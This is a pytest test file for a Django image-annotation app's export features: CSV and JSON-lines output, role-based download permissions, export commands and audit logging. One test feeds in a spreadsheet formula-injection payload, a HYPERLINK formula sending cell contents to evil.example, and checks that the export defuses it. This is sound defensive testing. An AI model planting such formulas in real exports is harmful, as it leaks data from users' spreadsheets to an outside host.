import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from annotation.exchange.records import AnnotationRecord, ConsensusRecord
from annotation.exchange.registry import FORMATS
from annotation.models import (
    Adjudication,
    Annotation,
    AnnotatorStatistics,
    AuditRecord,
    Campaign,
    Image,
    PhotoConsensus,
)
from annotation.models.photos import WITHDRAWN_PROBLEM
from annotation.selectors.export import annotation_records, annotator_records, consensus_records
from annotation.services.consensus import consensus_refresh
from tests.opinions_and_predictions import images_make, vote, votes


@pytest.fixture
def answers(campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]) -> list[Annotation]:
    """Return an answer, its correction, and a skip by a simulated annotator."""
    image = make_image(1, name='with "quotes", and commas.jpg', split="holdout")
    common = {"campaign": campaign, "image": image}
    first = Annotation.objects.create(
        client_id=uuid4(), annotator=people["alice"], watch="no", score=3, milliseconds=900, **common
    )
    second = Annotation.objects.create(
        client_id=uuid4(),
        annotator=people["alice"],
        watch="yes",
        score=4,
        supersedes=first,
        saw_prediction=True,
        **common,
    )
    people["bob"].is_simulated = True
    people["bob"].save()
    skip = Annotation.objects.create(client_id=uuid4(), annotator=people["bob"], skip_reason="broken\nfile", **common)
    return [first, second, skip]


def export_csv(campaign: Campaign) -> str:
    return b"".join(FORMATS["annotations-csv"].write(annotation_records(campaign))).decode()


def read_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_answer_is_exported_with_the_answer_it_supersedes(campaign: Campaign, answers: list[Annotation]) -> None:
    first, second, skip = read_rows(export_csv(campaign))
    assert tuple(first) == AnnotationRecord._fields
    assert first["image"] == 'with "quotes", and commas.jpg'
    assert (first["score"], first["watch"], first["milliseconds"], first["supersedes"]) == ("3", "no", "900", "")
    assert (second["supersedes"], second["saw_prediction"], second["split"]) == (first["annotation"], "1", "holdout")
    assert (skip["score"], skip["watch"], skip["skip_reason"], skip["simulated"]) == ("", "", "broken\nfile", "1")
    assert first["created_at"] == answers[0].created_at.isoformat()


def test_other_campaigns_are_left_out(answers: list[Annotation]) -> None:
    other = Campaign.objects.create(slug="other", name="Other")
    assert read_rows(export_csv(other)) == []


def test_the_export_takes_one_query(
    campaign: Campaign, answers: list[Annotation], django_assert_num_queries: Any
) -> None:
    with django_assert_num_queries(1):
        export_csv(campaign)


def test_text_from_users_is_never_a_spreadsheet_formula(
    campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]
) -> None:
    people["alice"].username = "@alice"
    people["alice"].save()
    Annotation.objects.create(
        client_id=uuid4(),
        annotator=people["alice"],
        campaign=campaign,
        image=make_image(1, name='=HYPERLINK("http://evil.example/?"&A2)'),
        skip_reason="+1+1",
    )
    (row,) = read_rows(export_csv(campaign))
    assert row["image"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
    assert (row["annotator"], row["skip_reason"]) == ("'@alice", "'+1+1")


@pytest.mark.parametrize(
    ("name", "status"), [("anonymous", 302), ("mallory", 404), ("alice", 403), ("rita", 200), ("ada", 200)]
)
def test_only_reviewers_and_admins_can_download(
    client_of: Any, answers: list[Annotation], name: str, status: int
) -> None:
    response = client_of(name).get(reverse("annotations-csv", args=["watches"]))
    assert response.status_code == status
    if status == 200:
        assert response["Content-Disposition"] == 'attachment; filename="watches-annotations.csv"'
        assert len(read_rows(b"".join(response.streaming_content).decode())) == 3


def test_command_writes_to_a_file_or_standard_output(
    campaign: Campaign, answers: list[Annotation], tmp_path: Path
) -> None:
    out = io.StringIO()
    call_command("export_annotations", "watches", stdout=out)
    call_command("export_annotations", "watches", "--out", str(tmp_path / "a.csv"))
    assert (tmp_path / "a.csv").read_bytes().decode() == out.getvalue()
    assert len(read_rows(out.getvalue())) == 3
    assert not list(tmp_path.glob("*.part"))


def test_command_gives_an_error_message(campaign: Campaign, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="no campaign 'clocks'"):
        call_command("export_annotations", "clocks")
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_annotations", "watches", "--out", str(tmp_path / "no" / "folder.csv"))


@pytest.fixture
def rated(campaign: Campaign, people: dict[str, Any], make_user: Callable[..., Any]) -> list[Image]:
    """Return four photos with votes of alice, bob and a program, whose consensus is stored.

    There is a decision about the second, and the last is withdrawn.
    """
    program = make_user("program", is_simulated=True)
    images = images_make(campaign, 4)
    scores = [[2, 3, 4], [5, 6, 7], [8, 9, 9], [3, 3, 5]]
    votes(images, [people["alice"], people["bob"], program], scores, [["yes", "yes", "no"]] * 4)
    Adjudication.objects.create(campaign=campaign, image=images[1], reviewer=people["rita"], watch="unsure", score=4)
    consensus_refresh(campaign=campaign)
    Image.objects.filter(pk=images[3].pk).update(withdrawn_at=timezone.now(), problem=WITHDRAWN_PROBLEM)
    return images


def test_the_consensus_is_exported_as_it_is_stored(campaign: Campaign, rated: list[Image]) -> None:
    found = list(consensus_records(campaign))
    assert [one.image for one in found] == [image.name for image in rated[:3]]
    stored = PhotoConsensus.objects.get(image=rated[1])
    assert found[1]._replace(image="", sha256="") == ConsensusRecord(
        image="",
        sha256="",
        split="train",
        role="rated",
        votes=3,
        simulated_votes=1,
        mos=6.0,
        sos=stored.sos,
        low=stored.low,
        high=stored.high,
        corrected_mos=stored.corrected_mos,
        corrected_error=stored.corrected_error,
        watch_votes=3,
        watch_yes=2,
        watch_posterior=stored.watch_posterior,
        decided_score=4,
        decided_watch="unsure",
        decided_blind=False,
        decision_trains=False,
        updated_at=stored.updated_at,
    )
    assert (found[0].decided_score, found[0].decided_watch) == (None, None)


def test_a_decision_that_was_undone_is_not_exported(campaign: Campaign, rated: list[Image]) -> None:
    Adjudication.objects.update(undone_at=timezone.now())
    assert {one.decided_score for one in consensus_records(campaign)} == {None}


def test_the_statistics_of_annotators_name_programs(campaign: Campaign, rated: list[Image]) -> None:
    found = list(annotator_records(campaign))
    assert [(one.annotator, one.simulated, one.votes) for one in found] == [
        ("alice", False, 4), ("bob", False, 4), ("program", True, 4)
    ]  # fmt: skip
    stored = AnnotatorStatistics.objects.get(annotator__username="bob")
    assert (found[1].bias, found[1].noise, found[1].sensitivity) == (stored.bias, stored.noise, stored.sensitivity)


def test_json_lines_have_the_values_of_the_rows(campaign: Campaign, rated: list[Image]) -> None:
    rows = list(consensus_records(campaign))
    lines = b"".join(FORMATS["consensus-jsonl"].write(rows)).decode().splitlines()
    for row, line in zip(rows, lines, strict=True):
        assert json.loads(line) == row._asdict() | {"updated_at": row.updated_at.isoformat()}


def test_json_lines_keep_every_text(
    campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]
) -> None:
    name = "=1 é \N{LINE SEPARATOR} \\n.jpg"
    image = make_image(7, name=name)
    vote(image, people["alice"], 5)
    (line,) = b"".join(FORMATS["annotations-jsonl"].write(annotation_records(campaign))).decode().strip().split("\n")
    assert json.loads(line)["image"] == name


@pytest.mark.parametrize("table", ["consensus", "annotators"])
@pytest.mark.parametrize(
    ("name", "status"), [("rita", 200), ("ada", 200), ("alice", 403), ("mallory", 404), ("anonymous", 302)]
)
def test_only_reviewers_and_admins_download_the_consensus(
    client_of: Callable[[str], Any], campaign: Campaign, rated: list[Image], table: str, name: str, status: int
) -> None:
    response = client_of(name).get(reverse(f"{table}-csv", args=["watches"]))
    assert response.status_code == status
    if status == 200:
        assert response["Content-Disposition"] == f'attachment; filename="watches-{table}.csv"'
        assert len(read_rows(b"".join(response.streaming_content).decode())) == 3
        assert AuditRecord.objects.filter(what=f"watches-{table}.csv").count() == 1
        page = client_of(name).get(reverse("campaign-quality", args=["watches"])).content.decode()
        assert f'href="/campaigns/watches/{table}.csv"' in page


@pytest.mark.parametrize("format_name", ["consensus-csv", "consensus-jsonl", "annotators-csv", "annotators-jsonl"])
def test_the_command_writes_each_table(
    campaign: Campaign, rated: list[Image], tmp_path: Path, format_name: str
) -> None:
    file = tmp_path / "table"
    call_command("export_consensus", "watches", "--format", format_name, "--out", str(file))
    lines = file.read_text().splitlines()
    assert len(lines) == (4 if format_name.endswith("csv") else 3)
    assert AuditRecord.objects.filter(what=f"{format_name} by command").count() == 1


def test_a_campaign_without_votes_exports_the_header(campaign: Campaign) -> None:
    out = io.StringIO()
    call_command("export_consensus", "watches", stdout=out)
    assert out.getvalue().strip().split(",") == list(ConsensusRecord._fields)


def test_the_number_of_queries_of_an_export_does_not_grow(
    campaign: Campaign, rated: list[Image], django_assert_num_queries: Callable[..., Any]
) -> None:
    with django_assert_num_queries(2):
        list(consensus_records(campaign))
    with django_assert_num_queries(1):
        list(annotator_records(campaign))
